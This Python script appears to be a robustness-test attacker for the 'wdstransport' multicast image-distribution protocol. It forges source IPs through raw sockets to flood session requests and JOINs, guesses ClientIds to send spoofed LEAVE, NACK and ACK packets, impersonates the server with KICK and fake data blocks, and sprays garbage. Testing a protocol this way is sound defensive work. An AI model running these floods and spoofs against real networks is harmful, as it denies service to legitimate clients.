#!/usr/bin/env python3
"""A neighbour with bad intentions: `attacker.py KIND SERVER PORT CONTENT OWN_ADDRESS RATE`, until SIGTERM.

RATE is datagrams a second; 0 for as many as it can. It knows what the protocol tells everybody: it asks for
the session, hears its group, and guesses ClientIds from the one that a JOIN of its own brings. Prints
`flooding` when it begins, and at its end `sent N`.
"""

from __future__ import annotations

import random
import signal
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator
from itertools import cycle
from types import FrameType

from wdstransport.wire import application, initiation, transport
from wdstransport.wire.security import ChecksumSecurity

SECURITY = ChecksumSecurity()
EVERYTHING = ((1, 2**64 - 1),)
LIED_LOSS = 10**16
GUESSES = range(-8, 9)
TRIES = 20


class Attacker:
    """What a stranger on the network can do, without forging the addresses of those concerned."""

    def __init__(self, server: str, port: int, content: str, own: str) -> None:
        self.server, self.port, self.own = server, port, own
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.sock.bind((own, 0))
        self.sock.settimeout(1.0)
        self.raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self.request = initiation.encode(initiation.Request("images", content, bytes(6)))
        self.rng = random.Random(5041)
        self.offer = self._ask()
        self.session = (socket.inet_ntoa(self.offer.server_address), self.offer.server_port)
        self.group = (socket.inet_ntoa(self.offer.multicast_address), self.offer.multicast_port)

    def _ask(self) -> initiation.Reply:
        for _ in range(TRIES):
            self.sock.sendto(self.request, (self.server, self.port))
            try:
                answer = initiation.decode(self.sock.recv(2048))
            except TimeoutError:
                continue
            assert isinstance(answer, initiation.Reply), answer
            return answer
        raise SystemExit("no answer from the server")

    def seal(self, packet: transport.TransportPacket) -> bytes:
        """A packet of the session, as valid as anybody's."""
        return transport.encode(
            packet,
            session_id=self.offer.session_id,
            sender_time=int(time.monotonic() * 1000),
            security=SECURITY,
        )

    def join(self) -> transport.JoinAck:
        """A JOIN of its own, and what the server answers."""
        for _ in range(TRIES):
            self.sock.sendto(self.seal(self._join("STRANGER")), self.session)
            try:
                data = self.sock.recv(2048)
            except TimeoutError:
                continue
            _, packet = transport.decode(data, session_id=self.offer.session_id, security=SECURITY)
            if isinstance(packet, transport.JoinAck):
                return packet
        raise SystemExit("nobody let the attacker join")

    def _join(self, name: str) -> transport.Join:
        return transport.Join(name, socket.inet_aton(self.own), self.rng.randbytes(6))

    def forge(self, payload: bytes, to: tuple[str, int]) -> None:
        """Send as a host of this network that does not exist."""
        source = socket.inet_aton(f"10.77.0.{self.rng.randrange(100, 250)}")
        udp = struct.pack(">HHHH", self.rng.randrange(1024, 65536), to[1], 8 + len(payload), 0) + payload
        size = 20 + len(udp)
        header = struct.pack(">BBHHHBBH", 0x45, 0, size, self.rng.randrange(65536), 0, 64, 17, 0)
        self.raw.sendto(header + source + socket.inet_aton(to[0]) + udp, (to[0], 0))

    # ------------------------------------------------------------------ what it may do, step by step

    def initiations(self) -> Iterator[None]:
        """Requests in the names of many hosts, for what there is and for what there is not."""
        contents = [initiation.Request("images", f"none-{number}", bytes(6)) for number in range(50)]
        datagrams = [self.request, *map(initiation.encode, contents)]
        for datagram in cycle(datagrams):
            self.forge(datagram, (self.server, self.port))
            yield

    def joins(self) -> Iterator[None]:
        """JOINs in the names of many hosts."""
        datagram = self.seal(self._join("FORGED"))
        while True:
            self.forge(datagram, self.session)
            yield

    def _guessed(self, make: Callable[[int], transport.TransportPacket]) -> Iterator[None]:
        own = self.join().client_id
        for datagram in cycle([self.seal(make((own + guess) % 2**32)) for guess in GUESSES]):
            self.sock.sendto(datagram, self.session)
            yield

    def leaves(self) -> Iterator[None]:
        """LEAVE for every ClientId near its own, as if they were complete."""
        return self._guessed(lambda client_id: transport.Leave(client_id, transport.LeaveReason.COMPLETE))

    def nacks(self) -> Iterator[None]:
        """NACKs of everything for every ClientId near its own."""
        return self._guessed(lambda client_id: transport.Nack(client_id, 1, LIED_LOSS, EVERYTHING))

    def acks(self) -> Iterator[None]:
        """ACKs of what was never sent, for every ClientId near its own."""
        return self._guessed(lambda client_id: transport.Ack(client_id, 2**40, 1, 2**40, 0))

    def strangers(self) -> Iterator[None]:
        """LEAVE, NACK and ACK in turns."""
        for _ in zip(self.leaves(), self.nacks(), self.acks(), strict=True):
            yield

    def member_nacks(self) -> Iterator[None]:
        """Joins as everybody may, and lacks everything all the time."""
        acknowledged = self.join()
        report = application.encode(application.ProgressReport(1, 0))
        confirm = transport.Qcr(acknowledged.client_id, 0, 0, 0, 0, 0, report)
        everything = self.seal(transport.Nack(acknowledged.client_id, 1, LIED_LOSS, EVERYTHING))
        for number in range(sys.maxsize):
            if number % 500 == 0:
                self.sock.sendto(self.seal(confirm), self.session)
            self.sock.sendto(everything, self.session)
            yield

    def impostor(self) -> Iterator[None]:
        """Speaks to the group as a server of the very session: wrong blocks, KICK, POLL, SPM."""
        self.sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(self.own))
        own = self.join().client_id
        size = self.offer.block_size
        kicked = tuple((own + guess, transport.KickReason.FAIL) for guess in GUESSES)
        packets: list[transport.TransportPacket] = [
            transport.OData(
                own, number, 0, application.encode(application.Data(number, bytes(size))), options=()
            )
            for number in range(1, 65)
        ]
        packets += [
            transport.Kick(kicked),
            transport.Spm(2**40, own, 1, 2, 2**40, 2**40, 1),
            transport.Poll(2**40, 1, application.encode(application.SrvCir())),
        ]
        for datagram in cycle([self.seal(packet) for packet in packets]):
            self.sock.sendto(datagram, self.group)
            yield

    def garbage(self) -> Iterator[None]:
        """Bytes of all lengths, to all three addresses."""
        for to in cycle((self.session, (self.server, self.port), self.group)):
            self.forge(self.rng.randbytes(self.rng.randrange(1, 1400)), to)
            yield


def main(kind: str, server: str, port: str, content: str, own: str, rate: str) -> None:
    """Flood until SIGTERM."""
    attacker = Attacker(server, int(port), content, own)
    steps: Iterator[None] = getattr(attacker, kind)()
    per_second = float(rate)
    stopped = False

    def stop(number: int, frame: FrameType | None) -> None:
        nonlocal stopped
        stopped = True

    signal.signal(signal.SIGTERM, stop)
    next(steps)
    print("flooding", flush=True)
    sent = 1
    began = time.monotonic()
    while not stopped:
        try:
            next(steps)
        except OSError:
            continue  # its own queue is full, or ICMP says what it knows
        sent += 1
        if per_second:
            time.sleep(max(0.0, began + sent / per_second - time.monotonic()))
    print(f"sent {sent} in {time.monotonic() - began:.2f} s", flush=True)


if __name__ == "__main__":
    main(*sys.argv[1:])
